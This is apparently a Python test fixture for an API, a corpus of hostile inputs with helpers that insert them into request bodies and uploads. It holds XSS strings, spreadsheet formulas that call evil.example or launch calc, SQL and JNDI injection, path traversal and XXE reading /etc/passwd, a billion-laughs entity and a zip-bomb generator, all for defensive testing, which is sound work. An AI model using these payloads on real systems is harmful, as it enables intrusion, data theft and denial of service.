"""A corpus of hostile input (issue 24): what people, other systems and attackers put in
text fields and files. Shared by ``tests/test_hostile_input.py`` and ``make probe``.

Each text payload has a category (the probe's table counts per category). JSON allows
a lone surrogate only as an escape (``"\\ud800"``), so bodies are sent as JSON text with
``ensure_ascii`` (see ``json_bytes``).
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Iterator
from typing import Any

DAY = "2026-11-20"

TEXT: list[tuple[str, str]] = [
    # cross-site scripting (OWASP XSS filter evasion cheat sheet, a few of each form)
    ("xss", "<script>alert(1)</script>"),
    ("xss", '"><img src=x onerror=alert(1)>'),
    ("xss", "<svg/onload=alert(1)>"),
    ("xss", "javascript:alert(1)"),
    ("xss", '[x](javascript:alert(1)) <a href="javascript:alert(1)">x</a>'),
    ("xss", "{{7*7}} {% raw %} ${7*7}"),
    # spreadsheet formulas (OWASP CSV injection)
    ("formula", '=HYPERLINK("http://evil.example/?"&A1,"x")'),
    ("formula", "+cmd|' /C calc'!A0"),
    ("formula", "-2+3"),
    ("formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula", "\t=1+1"),
    # Unicode edge cases
    ("unicode", "\u202egnp.exe"),  # right-to-left override
    ("unicode", "a\u200bb\u200c\u200d\ufeff"),  # zero-width characters, BOM
    ("unicode", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301"),  # combining marks
    ("unicode", "ក្រសួងសុខាភិបាល กระทรวงสาธารณสุข 卫生部"),  # Khmer, Thai, Chinese
    ("unicode", "\ud800"),  # a lone surrogate, allowed by JSON as an escape
    ("unicode", "\U0001f9a0\U0001f637"),  # astral plane
    ("unicode", "\x00"),  # NUL
    ("unicode", "line\r\nbreak\x0b\x1b[31m"),  # control characters
    # sizes and types
    ("size", "x" * 100_000),
    ("size", ""),
    ("size", " "),
    # path traversal and names that are not names
    ("path", "../../../../etc/passwd"),
    ("path", "..\\..\\windows\\win.ini"),
    ("path", "/dev/zero"),
    ("path", "CON"),
    # injection into other languages
    ("injection", "'; DROP TABLE event; --"),
    ("injection", "%00%2e%2e%2f"),
    ("injection", "${jndi:ldap://evil.example/a}"),
]
# values of the wrong type where a string is expected
WRONG_TYPES: list[tuple[str, Any]] = [
    ("type", None),
    ("type", 12345),
    ("type", 1.5e308),
    ("type", True),
    ("type", ["a"]),
    ("type", {"a": "b"}),
]


def json_bytes(body: Any) -> bytes:
    """JSON text as a hostile client sends it (lone surrogates escaped)."""
    return json.dumps(body, ensure_ascii=True).encode("ascii")


def zip_bomb_xlsx(unpacked_mb: int = 80) -> bytes:
    """An XLSX whose one sheet unpacks to ``unpacked_mb`` MB of XML (a few hundred KB
    packed), its declared size in the zip honest."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            '2006/content-types"><Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
            'worksheet+xml"/></Types>',
        )
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main"><sheetData>'
            )
            chunk = row * 20_000
            for _ in range(unpacked_mb * 1_000_000 // len(chunk)):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol3;</identifier></alert>'
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&x;</identifier></alert>'
)
UTF7 = (
    b'<?xml version="1.0" encoding="UTF-7"?>+ADw-alert xmlns=+ACI-urn:oasis:names:tc:'
    b"emergency:cap:1.2+ACI-+AD4-+ADw-/alert+AD4-"
)
# files for the upload endpoints: (category, filename, content type, bytes)
FILES: list[tuple[str, str, str, bytes]] = [
    ("encoding", "cases.csv", "text/csv", "disease,period\nmeasles,2026-W47\n".encode("utf-16")),
    ("encoding", "cases.csv", "text/csv", b"\xff\xfe\x00\xd8garbage\x00\x00"),
    ("formula", "cases.csv", "text/csv", b'disease,period\n=HYPERLINK("http://e.example"),=1+1\n'),
    ("path", "../../../etc/passwd", "text/csv", b"disease,period\n"),
    ("path", "a\x00b.csv", "text/csv", b"disease,period\n"),
    ("size", "empty.csv", "text/csv", b""),
    (
        "type",
        "cases.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        b"PK\x03\x04 not a zip",
    ),
    ("type", "minutes.pdf", "application/pdf", b"<html><script>alert(1)</script></html>"),
    (
        "type",
        "x.svg",
        "image/svg+xml",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ),
    ("xml", "bomb.xml", "application/xml", BILLION_LAUGHS),
    ("xml", "xxe.xml", "application/xml", XXE),
    ("xml", "utf7.xml", "application/xml", UTF7),
]


# ------------------------------------------------------------------ the schema's fields


def resolve(spec: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in schema:
        schema = spec["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    return schema


def _branches(spec: dict[str, Any], schema: dict[str, Any]) -> list[dict[str, Any]]:
    schema = resolve(spec, schema)
    if "anyOf" in schema:
        return [resolve(spec, s) for s in schema["anyOf"] if s.get("type") != "null"]
    return [schema]


def example(spec: dict[str, Any], schema: dict[str, Any], name: str = "") -> Any:
    """A plain valid value for a schema (the base body each payload is put into)."""
    schema = _branches(spec, schema)[0]
    if "enum" in schema:
        return schema["enum"][0]
    if "const" in schema:
        return schema["const"]
    kind = schema.get("type")
    if kind == "object":
        props = schema.get("properties", {})
        return {k: example(spec, v, k) for k, v in props.items() if k in schema.get("required", [])}
    if kind == "array":
        n = max(1, schema.get("minItems", 0))
        return [example(spec, schema.get("items", {}), name) for _ in range(n)]
    if kind == "integer":
        return max(1, schema.get("minimum", 1))
    if kind == "number":
        return max(1.0, schema.get("minimum", 1.0))
    if kind == "boolean":
        return False
    fmt = schema.get("format")
    if fmt == "date":
        return DAY
    if fmt == "date-time":
        return f"{DAY}T09:00:00+07:00"
    if "party" in name or name in ("country", "lead_party", "owner_party", "parties"):
        return "KHM" if name == "parties" else "IDN"
    return "x" * max(1, schema.get("minLength", 1))


def text_fields(spec: dict[str, Any], schema: dict[str, Any], prefix: str = "") -> Iterator[str]:
    """Paths of the string fields of a body (into the first item of lists of objects)."""
    schema = _branches(spec, schema)[0]
    for key, sub in schema.get("properties", {}).items():
        path = f"{prefix}{key}"
        for branch in _branches(spec, sub):
            if branch.get("type") == "string" and "enum" not in branch:
                yield path
                break
            if branch.get("type") == "object" and branch.get("properties"):
                yield from text_fields(spec, branch, f"{path}.")
                break
            items = resolve(spec, branch.get("items", {})) if branch.get("type") == "array" else {}
            if items.get("type") == "object":
                yield from text_fields(spec, items, f"{path}[0].")
                break
            if items.get("type") == "string" and "enum" not in items:
                yield f"{path}[0]"
                break


def put(body: Any, path: str, value: Any, spec: dict[str, Any], schema: dict[str, Any]) -> Any:
    """``body`` with ``value`` at ``path`` (creating the parents the path needs)."""
    steps = re.findall(r"[^.\[\]]+|\[0\]", path)
    node, sch = body, _branches(spec, schema)[0]
    for i, step in enumerate(steps):
        last = i == len(steps) - 1
        if step == "[0]":
            continue
        nxt = steps[i + 1] if not last else None
        sub = _branches(spec, sch.get("properties", {}).get(step, {}))[0]
        if last:
            node[step] = value
        elif nxt == "[0]":
            items = _branches(spec, sub.get("items", {}))[0]
            if not node.get(step):
                node[step] = [example(spec, items, step)]
            if i + 1 == len(steps) - 1:
                node[step][0] = value
                return body
            node, sch = node[step][0], items
        else:
            node = node.setdefault(step, example(spec, sub, step))
            sch = sub
    return body


def json_operations(spec: dict[str, Any]) -> Iterator[tuple[str, str, dict[str, Any]]]:
    for path, operations in spec["paths"].items():
        for method, op in operations.items():
            content = op.get("requestBody", {}).get("content", {})
            if "application/json" in content:
                yield method.upper(), path, content["application/json"]["schema"]
